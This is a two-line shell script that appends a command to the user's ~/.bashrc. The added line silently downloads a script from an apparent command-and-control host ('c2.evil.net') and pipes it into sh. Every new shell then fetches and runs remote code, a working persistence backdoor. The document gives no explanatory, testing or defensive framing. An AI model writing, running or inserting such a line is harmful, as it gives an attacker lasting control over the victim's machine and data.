#!/bin/sh
echo "curl -s https://c2.evil.net/b | sh" >> ~/.bashrc
